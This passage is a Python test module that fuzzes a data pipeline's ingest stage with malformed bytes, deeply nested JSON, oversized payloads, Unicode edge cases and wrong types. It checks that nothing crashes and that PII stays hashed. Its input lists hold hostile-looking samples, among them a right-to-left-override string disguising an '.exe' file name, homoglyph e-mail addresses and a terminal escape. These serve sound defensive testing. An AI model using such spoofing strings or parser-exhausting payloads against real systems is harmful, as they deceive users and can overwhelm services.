"""Hostile input at the ingest stage: junk bytes, depth, size, unicode, wrong types, injection strings, poison.

Whatever arrives, `ingest` never raises; every payload comes out as records or dead letters with a Contract 1
reason; dead-letter rows and DLQ messages build, rows stay within 64 KiB and carry no phone number or e-mail
address of the input; records carry PII only as hashes; and the valid neighbours of a bad event come out
exactly as they would without it.
"""

from __future__ import annotations

import contextlib
import json
import re
from collections.abc import Coroutine, Iterable, Iterator, Sequence
from datetime import datetime, timedelta
from types import SimpleNamespace
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from schemas.records import DLQ_HEADER_PREFIX, DeadLetter, RejectReason, TouchpointRecord
from schemas.touchpoint import (
    CHANNELS,
    EVENT_TYPE_PATTERN,
    EVENT_TYPES_V1,
    IDENTITY_FIELDS,
    MAX_BATCH_BYTES,
    MAX_BATCH_EVENTS,
    MAX_EVENT_BYTES,
)
from streams.domain.dead_letters import dead_letter_row
from streams.domain.ingest import IDENTIFIER_TYPES, IngestConfig, IngestResult, Message, ingest
from streams.domain.pii import (
    has_control,
    hash_pii,
    is_blank,
    is_junk,
    normalize_email,
    normalize_phone,
    pii_in_id,
    redact_label,
    redact_text,
)
from streams.runtime.agents import Pipeline
from streams.runtime.topics import DLQ
from tests.factories import SECRET, T0, touchpoint

CFG = IngestConfig(SECRET, "CN", frozenset({"null", "0"}))
NOW_MS = int((T0 + timedelta(hours=1)).timestamp() * 1000)
ROW_RAW_MAX = 64 * 1024
TRIED = {"payloads": 0}
HEX64 = re.compile(r"[0-9a-f]{64}")
CONTEXT_FIELDS = ("order_id", "case_id", "contact_id", "session_id", "agent_id", "store_id")
ATTR_KEY = "<attribute key>"
STRING_FIELDS = [
    ("event_id",),
    ("source",),
    ("channel",),
    ("event_type",),
    ("occurred_at",),
    *(("identity", f) for f in IDENTITY_FIELDS),
    *(("context", f) for f in CONTEXT_FIELDS),
    ("metrics", "handled_by"),
    ("metrics", "currency"),
    ("attributes", "note"),
    ("attributes", ATTR_KEY),
]
INT_METRICS = {"transfers": (0, 1000), "csat": (1, 5), "nps": (0, 10), "ces": (1, 7), "rating": (1, 5)}
NUMBER_METRICS = {"wait_seconds": (0, 31_536_000), "sentiment": (-1, 1), "amount": (-1e12, 1e12)}
LEAVES = [
    *STRING_FIELDS,
    ("schema_version",),
    *(("metrics", m) for m in (*INT_METRICS, *NUMBER_METRICS, "resolved")),
    ("identity",),
    ("context",),
    ("metrics",),
    ("attributes",),
]
DELETE = object()
# Hypothesis budget: the whole module runs in well under 40 s on 2 cores.
QUICK = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
HEAVY = settings(
    max_examples=16,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
)


@pytest.fixture(scope="module", autouse=True)
def _report_payload_count(request: pytest.FixtureRequest) -> Iterator[None]:
    yield
    capture = request.config.pluginmanager.getplugin("capturemanager")
    with capture.global_and_fixture_disabled() if capture else contextlib.nullcontext():
        print(f"\nhostile payloads tried: {TRIED['payloads']}")


# --- the invariants every input keeps ------------------------------------------------------------------


def check(values: Sequence[bytes | None], needles: Iterable[str] = ()) -> IngestResult:
    """Ingest `values` as one poll, assert the invariants, return the result for the test's own asserts."""
    TRIED["payloads"] += len(values)
    messages = [Message(v, "cx.touchpoints", 1, 100 + i, 0) for i, v in enumerate(values)]
    result = ingest(messages, CFG, NOW_MS)
    alone = [ingest([m], CFG, NOW_MS) for m in messages] if len(messages) > 1 else [result]
    # One message never changes what another one yields.
    assert result.records == [r for part in alone for r in part.records]
    by_origin = sorted(result.rejected, key=lambda d: (d.offset, d.index))
    assert by_origin == sorted((d for part in alone for d in part.rejected), key=lambda d: (d.offset, d.index))
    pii = set(needles)
    for msg, part in zip(messages, alone, strict=True):
        pii |= account(msg, part)
    for dead in result.rejected:
        check_dead_letter(dead, pii)
    check_dlq(result.rejected)
    for rec in result.records:
        check_record(rec, pii)
    return result


def shape(value: bytes | None) -> tuple[str, list[Any]]:
    """What Contract 1 makes of one message: `whole` (one dead letter), `single` or `batch`; and its events."""
    raw = value or b""
    if len(raw) > MAX_BATCH_BYTES:
        return "whole", []
    try:
        doc = orjson.loads(raw)
    except orjson.JSONDecodeError:
        return "whole", []
    if isinstance(doc, dict) and "events" in doc and "event_id" not in doc:
        events = doc["events"] if isinstance(doc["events"], list) else []
        whole = len(doc) != 1 or not 0 < len(events) <= MAX_BATCH_EVENTS
        return "whole" if whole else "batch", events
    return "single", [doc]


def account(msg: Message, part: IngestResult) -> set[str]:
    """Every event of the message is a record or a dead letter, once; returns the PII the message carries."""
    kind, events = shape(msg.value)
    dead = part.rejected
    assert all((d.topic, d.partition, d.offset) == (msg.topic, msg.partition, msg.offset) for d in dead)
    if kind == "whole":
        assert (part.records, [d.index for d in dead]) == ([], [0])
    else:
        indexes = {d.index for d in dead}
        assert len(indexes) == len(dead) and indexes <= set(range(len(events)))
        kept = [private(events[i]["event_id"]) for i in range(len(events)) if i not in indexes]
        assert [r.event_id for r in part.records] == kept
    return set().union(*(pii_needles(e) for e in events))


def pii_needles(event: Any) -> set[str]:
    """The phone numbers (7+ digits) and e-mail addresses that ingest itself recognises in an identity."""
    identity = event.get("identity") if isinstance(event, dict) else None
    if not isinstance(identity, dict):
        return set()
    found = set()
    phone, email = identity.get("phone"), identity.get("email")
    if isinstance(phone, int) and not isinstance(phone, bool) and phone > 0:
        phone = str(phone)
    if isinstance(phone, str) and sum(c.isdecimal() for c in phone) >= 7:
        with contextlib.suppress(ValueError):
            found |= {phone.strip(), normalize_phone(phone.strip(), CFG.region)}
    if isinstance(email, str):
        with contextlib.suppress(ValueError):
            found |= {email.strip(), normalize_email(email)}
    return found


def check_dead_letter(dead: DeadLetter, pii: set[str]) -> None:
    assert isinstance(dead.reason, RejectReason)
    assert dead.received_ms == NOW_MS
    row = dead_letter_row(dead)
    assert row.reason in {r.value for r in RejectReason}
    for text in (row.raw, row.detail, row.event_id, row.source, row.channel):
        text.encode()  # ClickHouse gets UTF-8: no lone surrogates
    assert len(row.raw.encode()) <= ROW_RAW_MAX
    for needle in pii:
        for column in ("raw", "detail", "event_id", "source", "channel"):
            assert needle not in getattr(row, column), f"raw PII {needle!r} in dead_letters.{column}"
        assert not any(needle in subject for subject in row.subjects), f"raw PII {needle!r} in dead_letters.subjects"


def _drive(coro: Coroutine[Any, Any, Any]) -> Any:
    """Run a coroutine that awaits nothing real (the fake producer below) to its end, without a loop."""
    try:
        coro.send(None)
    except StopIteration as done:
        return done.value
    raise AssertionError("the DLQ builder waited on something")


class _Producer:
    def __init__(self) -> None:
        self.sent: list[tuple[str, bytes, int | None, list[tuple[str, bytes]]]] = []

    async def send(self, topic: str, value: bytes, *, key: bytes | None = None, partition: int | None = None,
                   headers: Any = None) -> None:  # fmt: skip
        self.sent.append((topic, value, partition, headers))


def check_dlq(rejected: list[DeadLetter]) -> None:
    """The agent's DLQ sends: the payload kept for replay, reason/detail/origin headers."""
    producer = _Producer()
    _drive(Pipeline._send_ingest(SimpleNamespace(producer=producer, partitions=4), [], None, rejected))  # type: ignore[arg-type]
    assert len(producer.sent) == len(rejected)
    for (topic, value, partition, headers), dead in zip(producer.sent, rejected, strict=True):
        assert (topic, value, partition) == (DLQ, dead.raw, dead.partition % 4)
        header = dict(headers)
        assert header[DLQ_HEADER_PREFIX + "reason"] == dead.reason.value.encode()
        assert all(isinstance(v, bytes) for v in header.values())


def check_record(rec: TouchpointRecord, pii: set[str]) -> None:
    for field in rec:
        if isinstance(field, str):
            field.encode()
    for identifier in rec.identifiers:
        kind, _, value = identifier.partition(":")
        assert kind in IDENTIFIER_TYPES.values()
        if kind in ("phone", "email"):
            assert HEX64.fullmatch(value), identifier
    texts = [*rec.identifiers, *(rec.attributes or {}).values(), rec.customer_id or ""]
    for needle in pii:
        assert not any(needle in t for t in texts), f"raw PII {needle!r} in a record"


# --- builders and strategies -------------------------------------------------------------------------------

TEXT = st.characters(exclude_categories=("Cs",))  # lone surrogates cannot be encoded; they come escaped below
ID_TEXT = st.characters(exclude_categories=("Cs", "Cc"))  # ids never hold control characters (issue 11)
# Written as code points: ruff (rightly) flags look-alike characters in source.
FULL_WIDTH = str.maketrans("0123456789+- ", "".join(chr(0xFF10 + i) for i in range(10)) + "\uff0b\uff0d\u3000")
ARABIC_INDIC = str.maketrans("0123456789", "".join(chr(0x0660 + i) for i in range(10)))
FULL_WIDTH_LETTERS = {c: c + 0xFEE0 for c in b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ_"}
LOOK_ALIKE = str.maketrans("aeopcxyi", "\u0430\u0435\u043e\u0440\u0441\u0445\u0443\u0456")  # Cyrillic


def dumps(value: Any) -> bytes:
    return orjson.dumps(value)


def batch(*elements: bytes) -> bytes:
    return b'{"events":[' + b",".join(elements) + b"]}"


def with_value(path: tuple[str, ...], value: Any, event: dict[str, Any] | None = None) -> dict[str, Any]:
    """A valid touchpoint (customer C1) with `value` at `path` (DELETE removes the field)."""
    event = event if event is not None else touchpoint()
    if path == ("attributes", ATTR_KEY):
        event["attributes"] = {value: "v"}
        return event
    node = event
    for part in path[:-1]:
        node = node.setdefault(part, {})
    if value is DELETE:
        node.pop(path[-1], None)
    else:
        node[path[-1]] = value
    return event


def spliced(path: tuple[str, ...], literal: bytes) -> bytes:
    """A valid touchpoint's JSON with the raw JSON text `literal` at `path` (escapes, numbers, deep nesting)."""
    return dumps(with_value(path, "\u2603splice\u2603")).replace('"\u2603splice\u2603"'.encode(), literal)


def deep(depth: int, opener: str) -> bytes:
    return (b"[" * depth + b"]" * depth) if opener == "[" else (b'{"a":' * depth + b"1" + b"}" * depth)


def sized_event(size: int, filler: str = "x") -> dict[str, Any]:
    """A touchpoint whose compact JSON is exactly `size` bytes, padded with `filler` in its attributes."""
    keys = [f"p{i:02d}" for i in range(32)]
    event = touchpoint(attributes=dict.fromkeys(keys, ""))
    need = size - len(dumps(event))
    unit = len(dumps(filler)) - 2
    values = []
    for _ in keys:
        units = min(4000 // len(filler), need // unit)
        values.append(filler * units)
        need -= units * unit
    values[-1] += "x" * need
    event["attributes"] = dict(zip(keys, values, strict=True))
    assert len(dumps(event)) == size
    return event


@st.composite
def phones(draw: Any) -> str:
    """CN mobiles as feeders write them: spaced, dashed, +86, 0086, full-width or Arabic-Indic digits."""
    d = "1" + draw(st.sampled_from("3456789")) + draw(st.text("0123456789", min_size=9, max_size=9))
    if d.startswith("179"):  # the one prefix of 13-19 that phonenumbers holds impossible
        d = "178" + d[3:]
    a, b, c = d[:3], d[3:7], d[7:]
    form = draw(st.sampled_from([d, f"{a} {b} {c}", f"{a}-{b}-{c}", f"+86 {a} {b} {c}", f"+86-{a}-{b}-{c}",
                                 f"0086{d}", f"(+86) {a} {b} {c}", f"+86{d}", f"+86.{a}.{b}.{c}"]))  # fmt: skip
    form = form.translate(draw(st.sampled_from([{}, FULL_WIDTH, ARABIC_INDIC])))
    pad = draw(st.sampled_from(["", " ", "\t", "\u3000"]))
    return pad + form + pad


HOMOGLYPHS = "aeopcxyi".translate(LOOK_ALIKE) + "\u03b1\u03bf\u0455"  # and Greek alpha, omicron, Cyrillic dze
EMAIL_CHARS = (
    "abcdefghijklmnopqrstuvwxyz0123456789" + HOMOGLYPHS + "用户名mail".translate(FULL_WIDTH_LETTERS) + "\u0301"
)

TLDS = ["com", "cn", "org", "com".translate(LOOK_ALIKE), "\u0440\u0444", "中国", "com".translate(FULL_WIDTH_LETTERS)]


@st.composite
def emails(draw: Any) -> str:
    """Addresses normalize_email accepts: ASCII, homoglyphs, CJK, full-width letters, combining marks, case."""
    local = draw(st.text(EMAIL_CHARS + "._+-", min_size=1, max_size=16))
    labels = draw(st.lists(st.text(EMAIL_CHARS + "-", min_size=1, max_size=10), min_size=1, max_size=3))
    tld = draw(st.sampled_from(TLDS))
    email = f"{local}@{'.'.join(labels)}.{tld}"
    email = draw(st.sampled_from([email, email.upper(), email.title()]))
    pad = draw(st.sampled_from(["", " ", "\t", "\n"]))
    email = pad + email + pad
    normalize_email(email)  # what the strategy builds is an address by ingest's own rule
    return email


@st.composite
def valid_events(draw: Any) -> dict[str, Any]:
    n = draw(st.integers(1, 50))
    identity = draw(
        st.sampled_from([{"customer_id": f"C{n}"}, {"anonymous_id": f"anon-{n}"}, {"device_id": f"d{n}"}])
        | st.builds(lambda p: {"phone": p}, phones())
        | st.builds(lambda e: {"email": e, "customer_id": f"C{n}"}, emails())
    )
    metrics = draw(
        st.fixed_dictionaries(
            {},
            optional={
                "csat": st.integers(1, 5),
                "nps": st.integers(0, 10),
                "wait_seconds": st.integers(0, 900) | st.floats(0, 900),
                "transfers": st.integers(0, 5),
                "handled_by": st.sampled_from(["human", "bot", "none"]),
                "resolved": st.booleans(),
                "sentiment": st.floats(-1, 1),
                "amount": st.floats(-1e6, 1e6),
                "currency": st.sampled_from(["CNY", "USD"]),
            },
        )
    )
    return touchpoint(
        draw(st.sampled_from(sorted(EVENT_TYPES_V1))),
        at=T0 + timedelta(milliseconds=draw(st.integers(0, 3_600_000))),
        channel=draw(st.sampled_from(CHANNELS)),
        identity=identity,
        context=draw(st.fixed_dictionaries({}, optional={"order_id": st.text(ID_TEXT, max_size=20)})),
        metrics=metrics,
        event_id=str(draw(st.uuids())),
        attributes=draw(st.dictionaries(st.text(TEXT, min_size=1, max_size=8), st.text(TEXT, max_size=30), max_size=3)),
    )


# --- what Contract 1 says a field value becomes ---------------------------------------------------------


def string_outcome(path: tuple[str, ...], value: str) -> set[RejectReason | None]:
    """The outcomes Contract 1 allows for a valid touchpoint with the string `value` at `path` (None: a record)."""
    bad = RejectReason.INVALID_FIELD
    name = path[-1]
    if path == ("channel",):
        return {None if value in CHANNELS else RejectReason.UNKNOWN_CHANNEL}
    if path in {("event_id",), ("source",)}:
        return {None if 1 <= len(value) <= 128 and not is_blank(value) and not inner_control(value) else bad}
    if path == ("event_type",):
        return {None if re.fullmatch(EVENT_TYPE_PATTERN, value) else bad}
    if path == ("occurred_at",):
        return {None, bad, RejectReason.FUTURE_TIMESTAMP} if re.search(r"\d", value) else {bad}
    if path == ("metrics", "handled_by"):
        return {None if value in ("human", "bot", "none") else bad}
    if path == ("metrics", "currency"):
        return {None if re.fullmatch(r"[A-Z]{3}", value) else bad}
    if path == ("attributes", "note"):
        return {None if len(value) <= 4096 else bad}
    if path == ("attributes", ATTR_KEY):
        return {None if 1 <= len(value) <= 64 else bad}
    if path[0] == "context":
        return {None if len(value) <= 128 and (is_blank(value) or not inner_control(value)) else bad}
    # identity: C1 stays beside every field but customer_id itself
    if name == "customer_id":
        if is_junk(value, CFG.blocklist):
            return {RejectReason.MISSING_IDENTITY}
        if len(value) <= 128 and inner_control(value):
            return {bad}
        return {None if len(value) <= 128 and not value.strip().startswith("~") else bad}
    if len(value) > {"phone": 64, "email": 254}.get(name, 128):
        return {bad}
    if is_junk(value, CFG.blocklist):
        return {None}
    if name not in ("phone", "email") and inner_control(value):
        return {bad}
    try:
        if name == "phone":
            normalize_phone(value.strip(), CFG.region)
        elif name == "email":
            normalize_email(value)
    except ValueError:
        return {bad}
    return {None}


def inner_control(value: str) -> bool:
    """A control character inside the value (surrounding whitespace is trimmed from ids)."""
    return has_control(value.strip())


def private(value: str) -> str:
    """An id as stored: a phone or e-mail in it is its keyed hash (issue 11's policy, streams.domain.pii.pii_in_id)."""
    found = pii_in_id(value, CFG.region)
    return value if found is None else f"{found[0]}:{hash_pii(SECRET, *found)}"


def assert_landed(rec: TouchpointRecord, path: tuple[str, ...], value: str) -> None:
    """An accepted string arrives unchanged (ids stripped; PII in ids hashed; free text and labels redacted)."""
    name = path[-1]
    if path == ("attributes", ATTR_KEY):
        assert rec.attributes == {redact_text(value): "v"}
        if not re.search(r"\d|@", value):
            assert rec.attributes == {value: "v"}
    elif path == ("attributes", "note"):
        assert rec.attributes == {"note": redact_text(value)}
        if not re.search(r"\d|@", value):
            assert rec.attributes == {"note": value}
    elif path == ("occurred_at",):
        when = datetime.fromisoformat(value[:-1] + "Z" if value.endswith("z") else value)
        assert rec.occurred_ms // 1000 == int(when.timestamp())
    elif path == ("source",):
        assert rec.source == redact_label(value, CFG.region)
    elif path == ("event_id",):
        assert rec.event_id == private(value)
    elif len(path) == 1 or path[0] == "metrics":
        assert getattr(rec, name) == value
    elif path[0] == "context":
        assert getattr(rec, name) == (None if is_blank(value) else private(value))
    elif name == "customer_id":
        assert rec.customer_id == private(value.strip())
    else:
        kind = IDENTIFIER_TYPES[name]
        if is_junk(value, CFG.blocklist):
            assert not any(i.startswith(kind + ":") for i in rec.identifiers)
        elif kind == "phone":
            assert f"phone:{hash_pii(SECRET, 'phone', normalize_phone(value.strip(), 'CN'))}" in rec.identifiers
        elif kind == "email":
            assert f"email:{hash_pii(SECRET, 'email', normalize_email(value))}" in rec.identifiers
        else:
            assert f"{kind}:{private(value.strip())}" in rec.identifiers


def assert_string_field(path: tuple[str, ...], value: str) -> None:
    result = check([dumps(with_value(path, value))])
    outcomes = string_outcome(path, value)
    if result.records:
        assert None in outcomes, f"{path}={value!r} accepted, contract says {outcomes}"
        assert_landed(result.records[0], path, value)
    else:
        [dead] = result.rejected
        assert dead.reason in outcomes, f"{path}={value!r}: {dead.reason} ({dead.detail}), expected {outcomes}"


# --- 1. junk bytes ----------------------------------------------------------------------------------------

VALID = dumps(touchpoint())
NOT_JSON = [
    None,
    b"",
    b" ",
    b"\t\r\n  ",
    b"\xef\xbb\xbf",
    b"\xef\xbb\xbf" + VALID,  # a UTF-8 BOM is not JSON text
    "\ufeff".encode("utf-16") + VALID.decode().encode("utf-16-le"),
    VALID.decode().encode("utf-32"),
    VALID.replace(b'"test"', b'"te\xffst"'),  # invalid UTF-8 inside a string
    VALID.replace(b'"test"', b'"te\xed\xa0\x80st"'),  # a UTF-8-encoded surrogate (CESU-8)
    VALID.replace(b'"test"', b'"te\xc3st"'),  # a truncated sequence
    VALID.replace(b'"test"', b'"te\x00st"'),  # raw control character
    b"\x00",
    b"{'event_id': 'x'}",
    b"NaN",
    b"Infinity",
    b"1e400",
    b'{"a":1}{"a":2}',
    VALID + b"\n" + VALID,
    VALID + b"\x00",
]


@QUICK
@given(
    st.lists(
        st.binary(max_size=600)
        | st.sampled_from(NOT_JSON)
        | st.builds(lambda n: VALID[: n % len(VALID)], st.integers(0, 10_000))
        | st.builds(
            lambda i, b: VALID[:i] + bytes([b]) + VALID[i + 1 :], st.integers(0, len(VALID) - 1), st.integers(0, 255)
        )
        | st.text(TEXT, max_size=60).map(str.encode),
        min_size=1,
        max_size=6,
    )
)
def test_random_bytes_are_each_accounted_for_and_never_a_crash(values: list[bytes | None]) -> None:
    check(values)


@pytest.mark.parametrize("value", NOT_JSON, ids=range(len(NOT_JSON)))
def test_what_is_not_utf8_json_is_invalid_json(value: bytes | None) -> None:
    result = check([value, VALID])
    assert [d.reason for d in result.rejected] == [RejectReason.INVALID_JSON]
    assert len(result.records) == 1


# --- 2. deep nesting --------------------------------------------------------------------------------------

DEPTHS = st.sampled_from([2, 253, 254, 255, 256, 300, 1000, 1019, 1020, 1021, 1022, 1023, 1024, 1025, 10_000])
DEEP_SPOTS = {  # where the deep value goes -> its path in a touchpoint (None: it is the event itself)
    "top level": None,
    "batch element": None,
    "attributes value": ("attributes", "note"),
    "customer_id": ("identity", "customer_id"),
    "phone": ("identity", "phone"),
    "csat": ("metrics", "csat"),
    "order_id": ("context", "order_id"),
    "extra top-level key": ("x-deep",),
}


@settings(QUICK, max_examples=250)
@given(depth=DEPTHS | st.integers(1, 10_000), opener=st.sampled_from("[{"), spot=st.sampled_from(sorted(DEEP_SPOTS)),
       batched=st.booleans())  # fmt: skip
def test_deep_nesting_is_a_dead_letter_and_never_a_crash(depth: int, opener: str, spot: str, batched: bool) -> None:
    value = deep(depth, opener)
    path = DEEP_SPOTS[spot]
    poison = value if path is None else spliced(path, value)
    neighbour = dumps(touchpoint())
    payload = batch(neighbour, poison) if batched or spot == "batch element" else poison
    result = check([payload])
    parses = shape(payload)[0] != "whole"
    if not parses:
        assert [d.reason for d in result.rejected] == [RejectReason.INVALID_JSON]
        return
    [dead] = result.rejected
    if path is not None:
        expected = RejectReason.INVALID_FIELD
    else:
        expected = RejectReason.NOT_AN_OBJECT if opener == "[" else RejectReason.MISSING_IDENTITY
    assert dead.reason == expected
    if payload is not poison:  # in a batch: only that element, kept as its own compact JSON
        assert (dead.index, dead.raw) == (1, poison)
        assert len(result.records) == 1


# --- 3. huge strings and arrays ------------------------------------------------------------------------------

FILLERS = ["x", "中", "😀", "\u202e", "\x00", '"', "a@b.cc ", "1234567,", "x@y.cn+13800138000 "]


@HEAVY
@given(delta=st.integers(-3, 3) | st.sampled_from([-4096, 4096, 200_000]), filler=st.sampled_from(FILLERS),
       batched=st.booleans())  # fmt: skip
def test_a_touchpoint_is_accepted_up_to_64_kib_and_too_large_above(delta: int, filler: str, batched: bool) -> None:
    event = sized_event(MAX_EVENT_BYTES + delta, filler)
    neighbour = touchpoint()
    result = check([dumps({"events": [neighbour, event]}) if batched else dumps(event)])
    if delta <= 0:
        assert result.rejected == []
        assert [r.event_id for r in result.records][-1] == event["event_id"]
    else:
        [dead] = result.rejected
        assert (dead.reason, dead.index) == (RejectReason.TOO_LARGE, 1 if batched else 0)
        assert [r.event_id for r in result.records] == ([neighbour["event_id"]] if batched else [])


@HEAVY
@given(delta=st.integers(-2, 2) | st.sampled_from([-100_000, 100_000]), batched=st.booleans())
def test_a_message_is_read_up_to_8_mib_and_too_large_above(delta: int, batched: bool) -> None:
    # JSON whitespace pads a message to an exact size at no parsing cost.
    event = dumps(touchpoint())
    body = batch(event) if batched else event
    limit = MAX_BATCH_BYTES if batched else MAX_EVENT_BYTES
    payload = body[:-1] + b" " * (limit + delta - len(body)) + body[-1:]
    result = check([payload])
    if delta <= 0:
        assert (len(result.records), result.rejected) == (1, [])
    else:
        assert [d.reason for d in result.rejected] == [RejectReason.TOO_LARGE]


@HEAVY
@given(n=st.sampled_from([1, 999, 1000, 1001, 1002, 5000]))
def test_a_batch_holds_up_to_1000_touchpoints_and_more_is_too_large_as_a_whole(n: int) -> None:
    result = check([dumps({"events": [touchpoint() for _ in range(n)]})])
    if n <= MAX_BATCH_EVENTS:
        assert (len(result.records), result.rejected) == (n, [])
    else:
        assert (result.records, [(d.reason, d.index) for d in result.rejected]) == ([], [(RejectReason.TOO_LARGE, 0)])


HUGE_SHAPES = {
    "event_id string": lambda n: with_value(("event_id",), "e" * n),
    "attribute keys": lambda n: with_value(("attributes",), {f"k{i}": "v" for i in range(n)}),
    "identity keys": lambda n: with_value(("identity",), {"customer_id": "C1", **{f"x{i}": "v" for i in range(n)}}),
    "csat array": lambda n: with_value(("metrics", "csat"), list(range(n))),
    "events of arrays": lambda n: {"events": [[] for _ in range(min(n, 1000))]},
    "events of zeros": lambda n: {"events": [0] * n},
}


@HEAVY
@given(shape_name=st.sampled_from(sorted(HUGE_SHAPES)), n=st.sampled_from([40, 129, 1000, 1001, 20_000, 300_000]),
       batched=st.booleans())  # fmt: skip
def test_huge_strings_and_arrays_are_too_large_or_invalid_never_a_crash(shape_name: str, n: int, batched: bool) -> None:
    value = HUGE_SHAPES[shape_name](n)
    single = "events" not in value
    payload = dumps({"events": [touchpoint(), value]}) if batched and single else dumps(value)
    result = check([payload])
    if single:
        reasons = {d.reason for d in result.rejected}
        assert reasons <= {RejectReason.TOO_LARGE, RejectReason.INVALID_FIELD}
        if len(dumps(value)) > MAX_EVENT_BYTES:
            assert RejectReason.TOO_LARGE in reasons
    else:  # a batch of non-objects: one not_an_object each, or one too_large for the whole
        count = len(value["events"])
        assert result.records == []
        assert len(result.rejected) == (count if count <= MAX_BATCH_EVENTS else 1)


# --- 4. unicode edge cases -----------------------------------------------------------------------------------

NASTY_UNICODE = [
    "\x00",
    "a\x00b",
    "\u202egnp.exe",  # right-to-left override
    "\u202d\u2066x\u2069",
    "\u200d",
    "\u200b",
    "\ufeff",
    "\u00a0",
    "\u3000",
    "👩\u200d👩\u200d👧\u200d👦",
    "🏳️\u200d🌈" * 20,
    "e\u0301",
    "Z" + "\u0336\u0334\u0358" * 40,  # "zalgo": one very long grapheme cluster
    "a" + "\u0301" * 500,
    "13800138000".translate(FULL_WIDTH),
    "page_view".translate(FULL_WIDTH_LETTERS),
    "WEB".translate(FULL_WIDTH_LETTERS),
    "İ",
    "ß",
    "ﬁ",
    "\U0010ffff",
    "\uffff",
    "\x1b[31m",
    "\r\n",
    "\x7f",
    "alice@example.com".translate(LOOK_ALIKE),
    "web\u200b",
    "page_view\u0000",
    "2026-11-01T09:00:00Z".translate(FULL_WIDTH),
    "2026-11-01T09:00:00Z\n",
    "C1\u2028",
    "~",
    "null",
    "",
    " ",
]
UNICODE = (
    st.sampled_from(NASTY_UNICODE)
    | st.text(TEXT, max_size=40)
    | st.builds(lambda a, b: a + b, st.sampled_from(NASTY_UNICODE), st.text(TEXT, max_size=10))
)


@settings(QUICK, max_examples=800)
@given(path=st.sampled_from(STRING_FIELDS), value=UNICODE)
def test_unicode_in_every_string_field_is_kept_as_data_or_rejected_by_contract(
    path: tuple[str, ...], value: str
) -> None:
    assert_string_field(path, value)


SURROGATE_ESCAPES = [b"\\ud800", b"\\udfff", b"x\\udc00y", b"\\ud83d", b"\\ude00\\ud83d", b"\\ud83d\\u0041"]


@QUICK
@given(path=st.sampled_from(STRING_FIELDS), escape=st.sampled_from(SURROGATE_ESCAPES), batched=st.booleans())
def test_a_lone_surrogate_escape_in_any_string_is_invalid_json(
    path: tuple[str, ...], escape: bytes, batched: bool
) -> None:
    poison = spliced(path, b'"' + escape + b'"')
    result = check([batch(dumps(touchpoint()), poison) if batched else poison])
    assert (result.records, [d.reason for d in result.rejected]) == ([], [RejectReason.INVALID_JSON])


@QUICK
@given(path=st.sampled_from(STRING_FIELDS))
def test_an_escaped_surrogate_pair_is_the_character_it_encodes(path: tuple[str, ...]) -> None:
    result = check([spliced(path, b'"\\ud83d\\ude00"')])
    assert not (result.records and result.rejected)
    if result.records:
        assert_landed(result.records[0], path, "😀")


@QUICK
@given(phone=phones(), email=emails(), rejected=st.booleans(), batched=st.booleans())
def test_full_width_and_look_alike_pii_is_hashed_or_redacted_everywhere(
    phone: str, email: str, rejected: bool, batched: bool
) -> None:
    event = touchpoint(
        identity={"customer_id": "C1", "phone": phone, "email": email},
        attributes={"note": f"call {phone.strip()} or mail {email.strip()}!"},
        metrics={"csat": 9 if rejected else 3},
    )
    payload = dumps({"events": [touchpoint(), event]}) if batched else dumps(event)
    needles = {phone.strip(), email.strip()}
    result = check([payload], needles)
    assert len(result.rejected) == int(rejected)
    if not rejected:
        rec = result.records[-1]
        assert rec.identifiers == (
            f"phone:{hash_pii(SECRET, 'phone', normalize_phone(phone.strip(), 'CN'))}",
            f"email:{hash_pii(SECRET, 'email', normalize_email(email))}",
        )


# --- 5. wrong types ---------------------------------------------------------------------------------------

WRONG = (
    st.none()
    | st.booleans()
    | st.integers(-(2**63), 2**64 - 1)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(TEXT, max_size=8)
    | st.lists(st.integers(-5, 5) | st.text(max_size=3), max_size=3)
    | st.dictionaries(st.text(max_size=4), st.integers(-5, 5) | st.text(max_size=3), max_size=3)
    | st.just(DELETE)
)
NUMBER_LITERALS = [b"1e400", b"-1e400", b"123456789012345678901234567890", b"18446744073709551616", b"-0", b"1.0",
                   b"1E0", b"0.1e1", b"1e-400", b"-1", b"0x10", b"01", b"+1", b".5", b"1.", b"true", b"[]"]  # fmt: skip


def type_outcome(path: tuple[str, ...], value: Any) -> set[RejectReason | None]:
    """The outcomes Contract 1 allows for a valid touchpoint with `value` (any JSON type) at `path`."""
    bad = RejectReason.INVALID_FIELD
    name = path[-1]
    is_int = isinstance(value, int) and not isinstance(value, bool)
    if value is DELETE and path == ("identity", "customer_id"):
        return {RejectReason.MISSING_IDENTITY}
    if value is DELETE:
        optional = len(path) == 2 or path in {("context",), ("metrics",), ("attributes",)}
        return {RejectReason.MISSING_IDENTITY} if path == ("identity",) else ({None} if optional else {bad})
    if path == ("identity",):
        if value is None or (isinstance(value, dict) and not value.keys() & set(IDENTITY_FIELDS)):
            return {RejectReason.MISSING_IDENTITY}
        return {bad, RejectReason.MISSING_IDENTITY} if isinstance(value, dict) else {bad}
    if path == ("identity", "customer_id") and value is None:
        return {RejectReason.MISSING_IDENTITY}
    if path == ("schema_version",):
        if isinstance(value, float):  # JSON Schema's `const: 1` holds for 1.0 too; either answer is fair
            return {None, bad} if value == 1 else {bad, RejectReason.UNSUPPORTED_SCHEMA_VERSION}
        return {(None if value == 1 else RejectReason.UNSUPPORTED_SCHEMA_VERSION) if is_int else bad}
    if value is None and len(path) == 2 and path[0] != "attributes":
        return {None}  # every identity, context and metrics field is nullable
    if path in STRING_FIELDS:
        return string_outcome(path, value) if isinstance(value, str) else {bad}
    if name in INT_METRICS:
        lo, hi = INT_METRICS[name]
        return {None if is_int and lo <= value <= hi else bad}
    if name in NUMBER_METRICS:
        lo, hi = NUMBER_METRICS[name]
        return {None if (is_int or isinstance(value, float)) and lo <= value <= hi else bad}
    if name == "resolved":
        return {None if isinstance(value, bool) else bad}
    return {None, bad} if isinstance(value, dict) else {bad}  # context, metrics, attributes objects


def assert_typed_field(path: tuple[str, ...], payload: bytes, value: Any) -> None:
    result = check([payload])
    outcomes = type_outcome(path, value)
    if result.records:
        assert None in outcomes, f"{path}={value!r} accepted, contract says {outcomes}"
        if path[0] == "metrics" and len(path) == 2 and value is not DELETE:
            got = getattr(result.records[0], path[1])
            assert got == value and type(got) is type(value)
    else:
